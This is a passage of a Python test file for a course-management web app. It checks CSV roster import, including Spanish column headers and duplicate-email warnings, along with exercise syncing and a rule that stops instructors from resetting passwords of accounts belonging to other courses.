    assert "1 account is in this course already and stays as it is" in preview.text
    assert "Enrol 3 accounts" in preview.text
    assert roles(two_courses, "mpi") == {
        "bea": "student",
        "otto": "instructor",
        "tom": "ta",
        "mia": "student",
    }  # nothing stored yet
    done = client.post(
        "/courses/mpi/staff/roster/import", data={"csrf_token": token, "roster": text}
    )
    assert done.status_code == 200 and "1 account added" in done.text
    assert set(links(done.text)) == {"carl"}  # the existing keep their passwords
    assert "2 existing accounts were enrolled in this course: ana, prof" in done.text
    assert roles(two_courses, "mpi") == {
        "bea": "student",
        "otto": "instructor",
        "tom": "ta",
        "mia": "student",
        "ana": "student",
        "prof": "ta",
        "carl": "student",
    }
    assert roles(two_courses)["prof"] == "instructor"
    only_members = client.post(
        "/courses/mpi/staff/roster/import",
        data={"csrf_token": token, "roster": text},
        follow_redirects=True,
    )
    assert "Every account of the roster is in this course already" in only_members.text
    enrol_only = client.post(
        "/courses/mpi/staff/roster/import",
        data={"csrf_token": token, "roster": HEADER + "tina,Tina,t@uni.es,student\n"},
    )
    assert enrol_only.status_code == 303 and roles(two_courses, "mpi")["tina"] == "student"


def test_an_instructor_cannot_take_over_the_staff_of_another_course(two_courses):
    """prof enrols tom, mpi's teaching assistant, and mia, a student of mpi, as students of
    pytorch: were prof to reset their passwords, the links would make prof tom (mpi's teaching
    assistant) or mia (reading and submitting her mpi work). An instructor resets only the
    passwords of students in no other course."""
    client, token = in_course(two_courses, "prof", "pytorch")
    client.post(
        "/courses/pytorch/staff/roster/add",
        data={
            "csrf_token": token,
            "username": "tom",
            "name": "Tom",
            "email": "tom@uni.es",
            "role": "student",
        },
    )
    root, root_token = in_course(two_courses, "root")
    root.post(
        "/courses/pytorch/staff/roster/add",
        data={
            "csrf_token": root_token,
            "username": "root",
            "name": "Rosa",
            "email": "r@uni.es",
            "role": "student",
        },
    )
    client.post(
        "/courses/pytorch/staff/roster/add",
        data={
            "csrf_token": token,
            "username": "mia",
            "name": "Mia",
            "email": "mia@uni.es",
            "role": "student",
        },
    )
    # staff elsewhere, staff here, an admin, a student of another course, a student of both
    for username in ("tom", "tina", "root", "mia", "bea"):
        assert client.get(f"/courses/pytorch/staff/roster/{username}/password").status_code == 403
        assert (
            client.post(
                f"/courses/pytorch/staff/roster/{username}/password", data={"csrf_token": token}
            ).status_code
            == 403
        ), username
    page = client.get("/courses/pytorch/staff/roster/").text
    assert re.findall(r'roster/(\w+)/password">Reset', page) == ["ana"]
    assert users(two_courses)["tom"].password_hash != "!no-password"
    otto, otto_token = in_course(two_courses, "otto")
    assert (
        otto.post(
            "/courses/mpi/staff/roster/tom/password", data={"csrf_token": otto_token}
        ).status_code
        == 403
    )  # his own TA too
    assert (
        otto.post(
            "/courses/mpi/staff/roster/tina/password", data={"csrf_token": otto_token}
        ).status_code
        == 404
    )  # not in mpi
    assert (
        otto.post(
            "/courses/mpi/staff/roster/bea/password", data={"csrf_token": otto_token}
        ).status_code
        == 403
    )  # a student of both
    # an admin resets anyone: tom and bea now wait for a password, and only root sees their
    # links (bea's would let either instructor into her other course)
    for username in ("tom", "bea"):
        assert username in links(
            root.post(
                f"/courses/pytorch/staff/roster/{username}/password",
                data={"csrf_token": root_token},
            ).text
        )
    assert set(links(client.get("/courses/pytorch/staff/roster/waiting").text)) == set()
    assert set(links(otto.get("/courses/mpi/staff/roster/waiting").text)) == set()
    assert set(links(root.get("/courses/pytorch/staff/roster/waiting").text)) == {"bea", "tom"}


def test_a_courses_exercises_are_synced_from_its_own_folder(two_courses):
    client, token = in_course(two_courses, "otto")
    synced = client.post("/courses/mpi/staff/roster/exercises/sync", data={"csrf_token": token})
    assert synced.status_code == 303
    page = client.get(synced.headers["Location"]).text
    assert "Added: metrics" in page and "1 exercise is in step with its folder" in page
    with two_courses.extensions["hpcgrade.db"].sessions() as session:
        slugs = dict(
            session.execute(
                select(Course.slug, func.count(Exercise.id))
                .join(Exercise, Exercise.course_id == Course.id)
                .group_by(Course.slug)
            ).all()
        )
    assert slugs == {"mpi": 1, "pytorch": len(COURSE_ORDER)}


# --- a roster as exports write it: its columns guessed, confirmed or chosen ---------------------------

SPANISH_EXPORT = (
    "Usuario;Nombre;Apellidos;Correo;Rol\r\n"
    "carl;Carlos;Núñez Ruiz;c@uni.es;estudiante\r\n"
    "dani;Daniela;de la Fuente;d@uni.es;Alumna\r\n"
    "tere;Teresa;Gil;t@uni.es;ayudante\r\n"
)
IMPORT = "/courses/pytorch/staff/roster/import"
PREVIEW = "/courses/pytorch/staff/roster/preview"


def chosen(page: str) -> dict[str, str]:
    """field → the name of the column chosen for it on a preview."""
    return dict(
        re.findall(
            r'<select name="(\w+)">.*?<option value="\d*" selected>([^<]*)</option>', page, re.S
        )
    )


def hidden_fields(page: str, action: str) -> dict[str, str]:
    """What the preview's form that posts to `action` sends, but for its selects."""
    form = re.search(rf'<form method="post" action="{action}".*?</form>', page, re.S).group(0)
    return {
        name: html.unescape(value)
        for name, value in re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', form)
    }


def test_a_spanish_export_is_previewed_with_its_columns_and_imported(staffed):
    client, token = logged_in(staffed, "prof")
    preview = upload(client, token, SPANISH_EXPORT.encode(), lang="es")
    assert chosen(preview.text) == {
        "username": "Usuario",
        "given_name": "Nombre",
        "family_name": "Apellidos",
        "name": "(ninguna)",
        "email": "Correo",
        "role": "Rol",
    }
    assert "3 cuentas nuevas" in preview.text and "<td>Núñez Ruiz</td>" in preview.text
    assert not wrong_lines(preview.text)
    done = client.post(f"{IMPORT}?lang=es", data=hidden_fields(preview.text, IMPORT))
    assert done.status_code == 200 and "3 cuentas añadidas" in done.text
    assert {name: roles(staffed)[name] for name in ("carl", "dani", "tere")} == {
        "carl": "student",
        "dani": "student",
        "tere": "ta",
    }
    carl = users(staffed)["carl"]
    assert (carl.name, carl.given_name, carl.family_name) == (
        "Carlos Núñez Ruiz",
        "Carlos",
        "Núñez Ruiz",
    )
    page = client.get("/courses/pytorch/staff/roster/").text
    # by family name: de la Fuente (under d), García, Martín, Núñez Ruiz; the staff: Gil, Ortiz
    assert listed(page) == ["dani", "ana", "bea", "carl", "tere", "prof"]


def test_columns_the_header_does_not_name_are_chosen_on_the_preview(staffed):
    client, token = logged_in(staffed, "prof")
    text = "ID;Alumno;Dirección\ncarl;Carl Ruiz;c@uni.es\n"
    preview = upload(client, token, text.encode())
    assert preview.status_code == 200 and preview.request.path.endswith("/upload")
    assert "Choose the columns that hold the username" in preview.text
    assert IMPORT not in preview.text  # nothing to import until they are chosen
    assert chosen(preview.text) == dict.fromkeys(
        ("username", "given_name", "family_name", "name", "email", "role"), "(none)"
    )
    again = client.post(
        PREVIEW,
        data={**hidden_fields(preview.text, PREVIEW), "username": "0", "name": "1", "email": "2"},
    )
    assert "1 new account" in again.text and chosen(again.text)["name"] == "Alumno"
    assert set(users(staffed)) == {"ana", "bea", "prof", "root"}  # nothing stored yet
    done = client.post(IMPORT, data=hidden_fields(again.text, IMPORT))
    assert done.status_code == 200 and "1 account added" in done.text
    carl = users(staffed)["carl"]
    assert (carl.given_name, carl.family_name, carl.email) == ("Carl", "Ruiz", "c@uni.es")
    assert roles(staffed)["carl"] == "student"  # no role column: a student
    spanish = upload(client, token, text.encode(), lang="es")
    assert "Elige las columnas que contienen el usuario" in spanish.text


def test_an_address_twice_or_another_accounts_is_pointed_out_before_the_import(staffed):
    client, token = logged_in(staffed, "prof")
    text = (
        HEADER + "carl,Carl Ruiz,c@uni.es,student\n"
        "dani,Dani Sanz,C@uni.es,student\n"
        "eva,Eva Gil,a@uni.es,student\n"
    )
    preview = upload(client, token, text.encode())
    warned = wrong_lines(preview.text)
    assert warned == {
        "3": "C@uni.es is also the address of carl (line 2)",
        "4": "a@uni.es is already the address of the account ana",
    }
    assert "2 addresses to look at" in preview.text and "Add 3 accounts" in preview.text


def test_a_template_roster_downloads_and_previews_as_it_is(staffed):
    client, token = logged_in(staffed, "prof")
    page = client.get("/courses/pytorch/staff/roster/").text
    assert 'href="/courses/pytorch/staff/roster/template.csv" download' in page
    template = client.get("/courses/pytorch/staff/roster/template.csv")
    assert template.status_code == 200 and template.mimetype == "text/csv"
    assert template.headers["Content-Disposition"] == "attachment; filename=roster-template.csv"
    preview = upload(client, token, template.data)
    assert "1 new account" in preview.text and not wrong_lines(preview.text)
    assert "<td>García López</td>" in preview.text
